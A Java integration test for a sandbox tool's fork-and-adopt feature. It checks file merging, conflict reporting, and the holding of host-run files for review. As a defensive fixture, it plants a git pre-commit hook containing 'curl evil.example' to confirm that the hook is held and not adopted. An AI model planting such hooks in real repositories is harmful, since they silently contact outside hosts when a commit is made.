package dev.kosa8.it;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Fork N, adopt one (issue 33): two forks from one checkpoint, each changed by its own guest; one fork's changes
 * written back into the original's folder, a conflict with the original's own edit shown and not overwritten, a
 * host-run file held for review, the other fork's changes untouched, and the original's guest seeing the result
 * live.
 */
class ForkAdoptIT {
    static final Duration T = Duration.ofMinutes(3);
    static final Duration FORK = Duration.ofMinutes(8);

    @RegisterExtension
    static final ReplaceableSandbox SANDBOX = new ReplaceableSandbox("ForkAdoptIT", "--memory", "256M");

    @Test
    void theChosenForksChangesReachTheOriginalsFolderWithConflictsShownAndHostRunFilesHeld() throws Exception {
        SharedSandbox.Booted box = SANDBOX.running();
        String id = box.id();
        Path folder = box.workspace();
        Files.writeString(folder.resolve("a.txt"), "first\n");
        Files.writeString(folder.resolve("shared.txt"), "as it was\n");
        Files.createDirectories(folder.resolve("keep"));
        Files.writeString(folder.resolve("keep/old.txt"), "old\n");
        Files.createDirectories(folder.resolve(".git/hooks"));
        String base = Kosa.ok(T, "checkpoint", id, "-m", "before the tries").stdout().strip();

        Path tries = folder.resolveSibling("ForkAdoptIT-try");
        for (int i = 1; i <= 2; i++) {
            Path f = tries.resolveSibling(tries.getFileName() + "-" + i);
            if (Files.exists(f)) {
                Kosa.deleteTree(f);
            }
        }
        Kosa.Result forked = Kosa.ok(FORK, "fork", id, base, "--count", "2", "--workspace", tries.toString());
        List<String> forks = forked.stdout().lines().toList();
        assertThat(forks).as(forked.toString()).hasSize(2).doesNotHaveDuplicates();
        assertThat(forked.stderr()).contains("(1 of 2)", "(2 of 2)", tries + "-1", tries + "-2");
        String one = forks.get(0);
        String two = forks.get(1);
        try {
            Kosa.ok(T, "exec", one, "--", "sh", "-euc", """
                    cd /workspace
                    printf 'from try one\\n' > a.txt
                    mkdir src && printf 'print(1)\\n' > src/new.py
                    rm keep/old.txt
                    printf 'try one says\\n' > shared.txt
                    printf 'export FROM_ONE=1\\n' > .envrc
                    """);
            Kosa.ok(T, "exec", two, "--", "sh", "-euc", "printf 'from try two\\n' > /workspace/b.txt");
            assertThat(box.exec(T, "sh", "-euc", "printf 'the original says\\n' > /workspace/shared.txt")
                    .exitCode()).isZero();
            // a host tool in the fork's folder wrote a hook: adopting must not put it where git runs it
            Path oneFolder = Path.of(tries + "-1");
            Files.writeString(oneFolder.resolve(".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil.example\n");

            Kosa.Result dry = Kosa.run(T, "adopt", one, "--dry-run");
            assertThat(dry.stdout()).as(dry.toString()).contains("would adopt a.txt\n", "would adopt src\n",
                    "would adopt src/new.py\n", "would adopt keep/old.txt\n", "would hold .git/hooks");
            assertThat(dry.stderr()).contains("conflict: shared.txt", "the fork holds 1 change(s) of its own");
            assertThat(folder.resolve("a.txt")).as("a dry run changes nothing").hasContent("first");

            Kosa.Result adopted = Kosa.run(T, "adopt", one);
            assertThat(adopted.exitCode()).as("a conflict is an exit of 1: %s", adopted).isEqualTo(1);
            assertThat(adopted.stdout()).contains("adopted a.txt\n", "adopted src/new.py\n", "adopted keep/old.txt\n",
                    "held .git/hooks (review it: kosa8 review " + id + ")");
            assertThat(adopted.stderr()).contains("conflict: shared.txt changed in " + folder,
                    "adopted 4 change(s) of " + one + " into " + id);
            assertThat(folder.resolve("a.txt")).hasContent("from try one");
            assertThat(folder.resolve("src/new.py")).hasContent("print(1)");
            assertThat(folder.resolve("keep/old.txt")).doesNotExist();
            assertThat(folder.resolve("keep")).isDirectory();
            assertThat(folder.resolve("shared.txt")).as("the original's own edit kept").hasContent("the original says");
            assertThat(folder.resolve(".envrc")).as("held in the fork, never in its folder").doesNotExist();
            assertThat(folder.resolve(".git/hooks/pre-commit")).as("held for review").doesNotExist();
            assertThat(folder.resolve("b.txt")).as("the other try's changes stay in it").doesNotExist();
            assertThat(Kosa.ok(T, "review", id).stdout()).contains(".git/hooks");
            assertThat(box.exec(T, "cat", "/workspace/a.txt", "/workspace/src/new.py").stdout())
                    .as("the original's guest sees the adopted files").isEqualTo("from try one\nprint(1)\n");

            Kosa.Result again = Kosa.run(T, "adopt", one);
            assertThat(again.stderr()).as("adopting again finds its changes there").contains("adopted 0 change(s)",
                    "already there");
            Kosa.Result notAFork = Kosa.run(T, "adopt", id);
            assertThat(notAFork.exitCode()).isNotZero();
            assertThat(notAFork.stderr()).contains("was not made by `kosa8 fork`", "--into ID");
            assertThat(Kosa.ok(T, "adopt", two, "--into", one, "--dry-run").stdout()).contains("would adopt b.txt");
        } finally {
            Kosa.run(T, "reject", id, "--all");
            Kosa.run(T, "rm", "-f", one, two);
        }
    }
}
